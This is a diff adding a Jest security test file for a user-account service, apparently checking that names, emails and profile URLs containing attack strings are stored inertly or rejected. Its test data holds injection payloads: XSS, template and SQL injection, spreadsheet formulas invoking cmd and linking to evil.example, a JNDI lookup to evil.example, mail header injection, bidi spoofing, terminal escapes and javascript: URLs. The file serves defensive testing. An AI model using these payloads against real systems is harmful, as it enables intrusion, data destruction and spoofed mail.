@@ -1,0 +1,166 @@
+import { afterAll, beforeAll, describe, expect, test } from "@jest/globals";
+import type { Mail } from "../../lib/embedded/mailbox.ts";
+import { mailTo, newPerson, type Person, register, signIn } from "../support/main-flow.ts";
+import { startUsermesh, type Usermesh } from "../support/usermesh.ts";
+
+/** [V1.2, 16.4.1] Text that means something to a mail server, a browser, a terminal, a spreadsheet or a template. */
+let usermesh: Usermesh;
+beforeAll(async () => {
+  usermesh = await startUsermesh();
+});
+afterAll(() => usermesh.stop());
+
+const kept: ReadonlyArray<readonly [string, string]> = [
+  ["HTML", "<script>alert(1)</script><img src=x onerror=alert(1)>\"'&"],
+  ["an HTML comment and its end", "--><svg/onload=alert(1)><!--"],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a template engine would take for one
+  ["a template", "{{constructor.constructor('x')()}} ${7*7} #{7*7} <%= 7*7 %> %s %n"],
+  ["a formula", '=HYPERLINK("http://evil.example","x")+cmd|\' /C calc\'!A0'],
+  ["another formula", "@SUM(1+1)*cmd|' /C calc'!A0"],
+  ["SQL", "'; DROP TABLE users.users; --"],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: likewise
+  ["a lookup", "${jndi:ldap://evil.example/x}"],
+  ["bidi marks", "\u202egnp.exe\u202c \u2066x\u2069"],
+  ["no width", "a\u200bd\u200da\ufeff"],
+  ["four-byte letters", "😀𝒜𠜎👨‍👩‍👧"],
+  ["combining marks by the dozen", `Z${"\u0301".repeat(60)}`],
+  ["a line end", "Ada\r\nBcc: victim@example.com\r\n\r\nHello"],
+  ["a link", "Ada https://evil.example/win now"],
+  ["a header", "Ada\nSubject: You won\nX: y"],
+];
+const refused: ReadonlyArray<readonly [string, string]> = [
+  ["NUL", "Ada\u0000Lovelace"],
+  ["an escape sequence", "Ada\u001b[2J\u001b]0;owned\u0007"],
+  ["a backspace", "Ada\b\b\bEve"],
+  ["half a character", "Ada\ud800"],
+  ["a C1 control", "Ada\u009b31m"],
+];
+
+const registered = async (full_name: string): Promise<Person & { id: string }> =>
+  register(usermesh, newPerson(), { full_name });
+const named = (text: string) => text.slice(0, 255);
+
+describe.each(kept)("a name of %s", (_, text) => {
+  const name = named(text);
+
+  test("is kept as typed: for its owner, in the export, in the token and for an administrator", async () => {
+    const person = await registered(name);
+    const { access } = await signIn(usermesh, person);
+    expect((await usermesh.api.get("users/me", access)).body.data.full_name).toBe(name);
+    const exported = await usermesh.api.get("users/me/export", access);
+    expect(exported.headers.get("content-type")).toMatch(/^application\/json/);
+    expect(exported.headers.get("content-disposition")).toBe('attachment; filename="usermesh-export.json"');
+    expect(JSON.stringify(exported.body)).toContain(JSON.stringify(name));
+    const admin = await signIn(usermesh, usermesh.admin);
+    expect((await usermesh.api.get(`admin/users/${person.id}`, admin.access)).body.data.full_name).toBe(name);
+  });
+
+  test("is harmless in a mail: it makes no header, no recipient, no element, no line and no link of its own", async () => {
+    const person = await registered(name);
+    const mail = await mailTo(usermesh, person.email, /verify-email/);
+    const plain = await plainMail();
+    expect(mail.to).toEqual([person.email]);
+    expect(mail.subject).toBe(plain.subject);
+    expect(Object.keys(mail.headers).toSorted()).toEqual(Object.keys(plain.headers).toSorted());
+    expect(mail.text.split(/\r?\n/)).toHaveLength(plain.text.split(/\r?\n/).length);
+    expect(elementsOf(mail.html)).toEqual(elementsOf(plain.html));
+    expect(`${mail.text}${mail.html}`).not.toMatch(/evil\.example|victim@|[\u202a-\u202e\u2066-\u2069]/);
+  });
+
+  test("is harmless on the page of mails", async () => {
+    const person = await registered(name);
+    await mailTo(usermesh, person.email, /verify-email/);
+    const page = await fetch(`${usermesh.url}/dev/mail`, { headers: { accept: "text/html" } });
+    expect(page.headers.get("content-security-policy")).toMatch(/default-src 'none'/);
+    expect(await page.text()).not.toMatch(/<script|<svg|<img|onerror=alert\(1\)>(?!&)/);
+  });
+});
+
+describe.each(refused)("a text with %s", (_, text) => {
+  test("is refused in every field of a person, and nothing changes", async () => {
+    const { access } = await signIn(usermesh, await registered("Ada"));
+    // The sign-in is noted by an event.
+    await usermesh.settled();
+    const before = (await usermesh.api.get("users/me", access)).body.data;
+    for (const field of ["full_name", "current_title", "company", "location", "bio", "push_token"]) {
+      const { status, body } = await usermesh.api.patch("users/me", { [field]: text }, access);
+      expect([field, status, body.errors?.[0]]).toMatchObject([field, 422, { field, code: "invalid_characters" }]);
+    }
+    for (const field of ["headline", "industry", "gender"])
+      expect((await usermesh.api.patch("users/me/profile", { [field]: text }, access)).status).toBe(422);
+    for (const field of ["skills", "languages"])
+      expect((await usermesh.api.patch("users/me/profile", { [field]: [text] }, access)).status).toBe(422);
+    expect((await usermesh.api.get("users/me", access)).body.data).toEqual(before);
+  });
+
+  test("is no device's name and no sign-in's, and ends in no 500", async () => {
+    const { email, password } = await registered("Ada");
+    const login = (more: object) => usermesh.api.post("auth/login", { email, password, ...more });
+    expect((await login({ device_name: text })).status).toBe(422);
+    expect([401, 422]).toContain((await login({ email: text })).status);
+    expect([401, 422]).toContain((await usermesh.api.post("auth/login", { username: text, password })).status);
+    expect((await usermesh.api.post("auth/password-reset-request", { email: `${text}@example.com` })).status).toBe(422);
+    expect((await registerAt(text)).status).toBe(422);
+  });
+});
+
+const registerAt = (text: string) =>
+  usermesh.api.post("auth/register", { ...newPerson(), email: `a${text}@example.com` });
+
+describe("an address", () => {
+  test.each([
+    "a@example.com\r\nBcc: victim@example.com",
+    "a@example.com,victim@example.com",
+    "a@example.com;victim@example.com",
+    "<a@example.com>",
+    "Ada <a@example.com>",
+    '"a b"@example.com',
+    "a@example.com\u0000",
+    "a@exa mple.com",
+    "a\u202e@example.com",
+    "a@b@example.com",
+    "@example.com",
+    "a@",
+    "a@localhost",
+    "a@[127.0.0.1]",
+    " a@example.com",
+    `${"a".repeat(65)}@example.com`,
+  ])("%j is none", async (email) => {
+    const { status, body } = await usermesh.api.post("auth/register", { ...newPerson(), email });
+    expect([status, body.errors?.[0]?.field]).toEqual([422, "email"]);
+  });
+});
+
+describe("a URL of a person", () => {
+  test.each([
+    "javascript:alert(1)",
+    "data:text/html,x",
+    "ftp://x",
+    "//evil.example",
+    "https://",
+    "java\nscript:alert(1)",
+  ])("%j is none", async (url) => {
+    const { access } = await signIn(usermesh, await registered("Ada"));
+    for (const field of ["website_url", "linkedin_url", "github_url"])
+      expect((await usermesh.api.patch("users/me/profile", { [field]: url }, access)).status).toBe(422);
+  });
+});
+
+test("a device calls itself what it likes, in the list of sessions alone", async () => {
+  const { email, password } = await registered("Ada");
+  const headers = { "user-agent": "<script>alert(1)</script> {{7*7}}" };
+  const body = { email, password, device_name: "<b>=1+1</b>" };
+  const { data } = (await usermesh.api.request("POST", "auth/login", { body, headers })).body;
+  const [session] = (await usermesh.api.get("auth/sessions", data.access_token)).body.data;
+  expect(session.device.name).toBe("<b>=1+1</b>");
+  expect(JSON.stringify([session.device.browser, session.device.os])).not.toContain("script");
+});
+
+let plain: Promise<Mail> | undefined;
+/** The same mail to somebody without a name of that kind. */
+function plainMail(): Promise<Mail> {
+  plain ??= registered("Ada Lovelace").then(({ email }) => mailTo(usermesh, email, /verify-email/));
+  return plain;
+}
+
+const elementsOf = (html: string) => [...html.matchAll(/<\/?([a-z!]+)/gi)].map(([, name]) => name);
